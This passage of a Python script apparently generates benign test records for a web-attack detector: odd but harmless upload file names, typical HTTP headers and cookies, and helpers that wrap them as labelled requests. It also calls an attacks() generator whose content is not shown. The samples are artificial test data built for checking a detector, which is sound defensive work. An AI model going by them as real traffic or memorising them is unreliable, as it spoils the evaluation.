    "data_2024-05-01.csv", "scan 001 #2.png", "invoice #42 (copy).pdf", "Präsentation_v2.pptx", "backup.tar.gz",
    "jsp-migration-notes.pdf", "java-course-syllabus.docx", "template guide.pdf", "logo@2x.png",
    "contract - D'Angelo (signed).pdf", "IMG_2024-05-01 10.22.31.HEIC", "budget 2024 v3 FINAL.xlsx",
    "readme.md", "team photo.jpeg", "screenshot 2024-05-01 at 10.22.31.png",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Mobile Safari/537.36"),
    ("User-Agent", "Apache-HttpClient/5.3 (Java/21.0.2)"), ("User-Agent", "node-fetch/3.3.2"),
    ("User-Agent", "Faraday v2.9.0"), ("User-Agent", "libwww-perl/6.76"), ("User-Agent", "Go-http-client/2.0"),
    ("Referer", "https://app.example.com/admin/users?sort=-created_at&page=2"),
    ("Referer", "https://www.google.com/search?q=thymeleaf+fragment+expression"),
    ("Accept-Language", "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7"), ("Accept-Language", "de-CH, de;q=0.9, fr;q=0.8"),
    ("X-Api-Version", "2024-05-01"), ("X-Request-Id", "01890a5d-ac96-774b-bcce-b302099a8057"),
    ("From", "ann.lee+crawler@example.com"), ("If-Modified-Since", "Tue, 07 May 2024 10:00:00 GMT"),
    ("X-Forwarded-Host", "app.example.com"),
    ("Cookie", "session=8f3c2a9d1e; lang=fr-CA; theme_color=%23ff6600; tz=Europe%2FParis"),
    ("Cookie", "session=8f3c2a9d1e; sort=-created_at; currency=EUR"),
]


def _typed_benign() -> Iterator[dict[str, Any]]:
    for i, (kind, value) in enumerate(TYPED_BENIGN):
        names, places, _, _ = FIELDS[kind]
        place = _place(places, i, kind, value)
        yield {**_real(place, kind, names[i % len(names)], value), "sub": kind}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from numbered(_typed_benign(), f"{NAME}-typed", n, "typed-field")
    n = yield from SET.searches(SEARCHES, NAME, n)
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    n = yield from numbered((request("POST", "/admin/users/import",
                                     SET.multipart([("csrf_token", CSRF, None), ("file", PDF_BODY, fn)]), MULTIPART)
                             for fn in UPLOAD_NAMES), f"{NAME}-upload", n, "multipart-filename")
    yield from SET.headers(BENIGN_HEADERS, NAME, n)


if __name__ == "__main__":
    print_records(attacks(), benign())
